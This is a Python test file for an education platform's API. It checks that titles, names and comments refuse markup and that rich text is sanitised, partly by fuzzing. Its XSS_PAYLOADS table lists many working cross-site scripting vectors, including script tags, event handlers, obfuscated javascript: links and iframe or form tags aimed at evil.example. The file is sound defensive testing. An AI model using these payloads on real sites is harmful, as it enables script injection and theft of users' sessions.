"""Stored text is plain text (docs/api.md): markup refused in titles, names and review comments
(422 naming the field); descriptions and lesson content stored sanitised (nh3, the allow-list in
eduplatform.text) against a table of XSS payloads, and fuzzed with hypothesis."""

import html.parser
import re
import uuid
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.lambda_events import call
from tests.unit.test_course import (
    CREATE,
    CREATE_LESSON,
    CREATE_MODULE,
    CURRICULUM,
    GET,
    GET_LESSON,
    UPDATE,
    UPDATE_LESSON,
    UPDATE_MODULE,
    Teacher,
    new_course,
    new_lesson,
    new_module,
    review,
)

from eduplatform import text
from eduplatform.types import PLAIN_MULTI_LINE_PATTERN, PLAIN_SINGLE_LINE_PATTERN

REGISTER = "identity.handlers.register"
CREATE_NOTIFICATION = "notification.handlers.create_notification"

MARKUP = [
    "<b>bold</b>",
    "</p>",
    "<!-- comment -->",
    "<!DOCTYPE html>",
    "Hi <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "x<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<Z",
]
NOT_MARKUP = ["a < b", "I <3 Python", "x<", "1<2 and 3>2", "<<3", "<= and >=", "C++ & <- arrows", "< div"]


@pytest.fixture
def course_db(domain_database):
    return domain_database("course")


def assert_plain_text_refused(response, field: str) -> None:
    assert response.status == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"][-1] == field and "Must be plain text" in error["msg"], error


# ---- plain text ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", MARKUP)
def test_markup_is_refused_in_every_plain_text_field(course_db, token_for, value):
    teacher = Teacher(token_for)
    course = new_course(teacher.token)
    module = new_module(teacher.token, course["id"])
    lesson = new_lesson(teacher.token, module["id"])
    assert_plain_text_refused(call(CREATE, body={"title": value, "is_free": True}, token=teacher.token), "title")
    assert_plain_text_refused(
        call(UPDATE, {"course_id": course["id"]}, body={"title": value}, token=teacher.token), "title"
    )
    assert_plain_text_refused(
        call(CREATE_MODULE, {"course_id": course["id"]}, body={"title": value}, token=teacher.token), "title"
    )
    assert_plain_text_refused(
        call(UPDATE_MODULE, {"module_id": module["id"]}, body={"title": value}, token=teacher.token), "title"
    )
    assert_plain_text_refused(
        call(CREATE_LESSON, {"module_id": module["id"]}, body={"title": value}, token=teacher.token), "title"
    )
    assert_plain_text_refused(
        call(UPDATE_LESSON, {"lesson_id": lesson["id"]}, body={"title": value}, token=teacher.token), "title"
    )
    assert_plain_text_refused(review(token_for("student"), course["id"], comment=f"Great\n{value}"), "comment")
    assert call(GET, {"course_id": course["id"]}).json()["title"] == course["title"]  # nothing stored


@pytest.mark.parametrize("value", MARKUP[:3])
def test_markup_is_refused_in_names_and_notification_titles(domain_database, token_for, value):
    body = {"email": f"{uuid.uuid4().hex}@example.com", "password": "password123", "name": value}
    assert_plain_text_refused(call(REGISTER, body=body), "name")
    domain_database("notification")
    assert_plain_text_refused(
        call(CREATE_NOTIFICATION, body={"type": "enrollment", "title": value}, token=token_for("student")), "title"
    )


@pytest.mark.parametrize("value", NOT_MARKUP)
def test_text_with_a_less_than_sign_that_is_not_markup_is_kept_as_sent(course_db, token_for, value):
    teacher = Teacher(token_for)
    course = new_course(teacher.token, title=value)
    assert course["title"] == value and call(GET, {"course_id": course["id"]}).json()["title"] == value
    response = review(token_for("student"), course["id"], comment=value)
    assert response.status == 201 and response.json()["comment"] == value


def test_a_name_without_markup_registers(domain_database):
    domain_database("identity")
    body = {"email": f"{uuid.uuid4().hex}@example.com", "password": "password123", "name": "Ada <3 Lovelace"}
    assert call(REGISTER, body=body).status == 200


# ---- rich text: sanitised at write time -------------------------------------------------------------------------------

# payload -> what must not survive (checked case-insensitively); every payload is also checked generically.
XSS_PAYLOADS = {
    "<script>alert(1)</script>": ["<script", "alert(1)"],
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": ["<script", "evil.example"],
    "<scr<script>ipt>alert(1)</scr</script>ipt>": ["<script"],
    "<img src=x onerror=alert(1)>": ["onerror", "<img"],
    '<p onclick="steal()">hi</p>': ["onclick", "steal"],
    "<body onload=alert(1)>": ["onload", "<body"],
    '<a href="javascript:alert(1)">x</a>': ["javascript:"],
    '<a href="JaVaScRiPt:alert(1)">x</a>': ["javascript:"],
    '<a href="&#106;avascript:alert(1)">x</a>': ["javascript", "&#106;"],
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>': ["avascript"],
    '<a href="java\tscript:alert(1)">x</a>': ["script:"],
    '<a href=" javascript:alert(1)">x</a>': ["javascript:"],
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>': ["data:"],
    '<a href="vbscript:msgbox(1)">x</a>': ["vbscript"],
    "<svg onload=alert(1)>": ["<svg", "onload"],
    "<svg><script>alert(1)</script></svg>": ["<svg", "<script", "alert(1)"],
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': ["<svg", "javascript:", "xlink"],
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": ["onerror", "<img", "<style"],
    '<iframe src="https://evil.example"></iframe>': ["<iframe", "evil.example"],
    '<object data="x.swf"></object><embed src="x.swf">': ["<object", "<embed"],
    "<style>body{background:url(javascript:alert(1))}</style>": ["<style", "javascript"],
    '<p style="background:url(javascript:alert(1))">x</p>': ["style=", "javascript"],
    '<div style="position:fixed;top:0">overlay</div>': ["style=", "<div"],
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">': ["<meta", "refresh"],
    '<form action="https://evil.example"><input name=p></form>': ["<form", "<input"],
    "<!--<img src=x onerror=alert(1)>-->": ["onerror", "<!--"],
    "&lt;script&gt;alert(1)&lt;/script&gt;": ["<script"],
    "%3Cscript%3Ealert(1)%3C/script%3E": ["<script"],
    "<<script>script>alert(1)<</script>/script>": ["<script"],
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">': ["onerror", "<img"],
    "<details open ontoggle=alert(1)>": ["ontoggle"],
    '<a href="https://ok.example" onmouseover="alert(1)" target="_blank">ok</a>': ["onmouseover", "target="],
    '<base href="https://evil.example/">': ["<base"],
    '<link rel=stylesheet href="https://evil.example/x.css">': ["<link"],
}


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_safe(sanitised: str) -> None:
    """Only allow-listed tags and attributes, links only to allowed schemes, no handlers or styles."""
    parser = _Tags()
    parser.feed(sanitised)
    parser.close()
    for tag, attrs in parser.found:
        assert tag in text.ALLOWED_TAGS, (tag, sanitised)
        for name, value in attrs:
            if tag == "a" and name == "rel":
                assert value == text.LINK_REL
                continue
            assert name in text.ALLOWED_ATTRIBUTES.get(tag, ()), (tag, name, sanitised)
            if name == "href":
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in text.ALLOWED_URL_SCHEMES | {""}, (value, sanitised)
    # Text is escaped, so every "<" left opens an allowed tag: none carries an event handler or a style.
    assert not re.search(r"<[^>]*[\s/](on[a-z]+|style)\s*=", sanitised, re.IGNORECASE), sanitised


@pytest.mark.parametrize("payload", list(XSS_PAYLOADS))
def test_xss_payloads_are_sanitised_in_descriptions_and_lesson_content(course_db, token_for, payload):
    teacher = Teacher(token_for)
    course = new_course(teacher.token, description=f"Intro {payload} outro")
    lesson = new_lesson(teacher.token, new_module(teacher.token, course["id"])["id"], content=payload)
    stored = [
        course["description"],
        call(GET, {"course_id": course["id"]}).json()["description"],
        lesson["content"],
        call(GET_LESSON, {"lesson_id": lesson["id"]}).json()["content"],
        call(CURRICULUM, {"course_id": course["id"]}).json()["modules"][0]["lessons"][0]["content"],
    ]
    for value in stored:
        assert_safe(value)
        for forbidden in XSS_PAYLOADS[payload]:
            assert forbidden.lower() not in value.lower(), (payload, value)
    assert stored[0].startswith("Intro ")  # (an unclosed <svg> or <style> swallows what follows it)
    updated = call(UPDATE, {"course_id": course["id"]}, body={"description": payload}, token=teacher.token).json()
    assert_safe(updated["description"])
    updated = call(UPDATE_LESSON, {"lesson_id": lesson["id"]}, body={"content": payload}, token=teacher.token).json()
    assert_safe(updated["content"])


def test_allowed_formatting_is_kept(course_db, token_for):
    teacher = Teacher(token_for)
    description = (
        "<h2>About</h2><p>Learn <strong>fast</strong>, <em>well</em> &amp; <code>x &lt; y</code>.</p>"
        "<ul><li>one</li><li>two</li></ul>"
    )
    course = new_course(teacher.token, description=description)
    assert course["description"] == description
    linked = new_course(teacher.token, description='<a href="https://example.com/a" title="A">a</a>')["description"]
    assert linked == '<a href="https://example.com/a" title="A" rel="noopener noreferrer nofollow">a</a>'
    plain = new_course(teacher.token, description="Line one\nLine two: 1 < 2")["description"]
    assert plain == "Line one\nLine two: 1 &lt; 2"  # text as HTML: a front end renders exactly what was typed


# ---- fuzzing -------------------------------------------------------------------------------------------------------------

HTMLISH = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "<",
                ">",
                "/",
                "!",
                "=",
                '"',
                "'",
                "&",
                "#",
                ";",
                ":",
                " ",
                "\n",
                "-",
                "on",
                "script",
                "svg",
                "a",
                "img",
                "href",
                "src",
                "style",
                "javascript",
                "&#106;",
                "&lt;",
                "p",
                "b",
                "onerror",
            ]
        ),
        st.text(max_size=3),
    ),
    max_size=40,
).map("".join)


@settings(max_examples=400, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(HTMLISH)
def test_fuzz_sanitised_text_is_safe_and_stable(value):
    sanitised = text.sanitise_html(value)
    assert_safe(sanitised)
    assert text.sanitise_html(sanitised) == sanitised


@settings(max_examples=400, deadline=None, derandomize=True)
@given(HTMLISH.filter(lambda v: not re.search(r"[\x00-\x1f\x7f\ud800-\udfff]", v)))
def test_fuzz_the_documented_pattern_agrees_with_the_validator(value):
    """The OpenAPI pattern (what schemathesis generates from) accepts exactly the text the validator accepts."""
    assert bool(re.fullmatch(PLAIN_SINGLE_LINE_PATTERN, value)) == (not text.has_markup(value)), value
    assert bool(re.fullmatch(PLAIN_MULTI_LINE_PATTERN, value)) == (not text.has_markup(value)), value
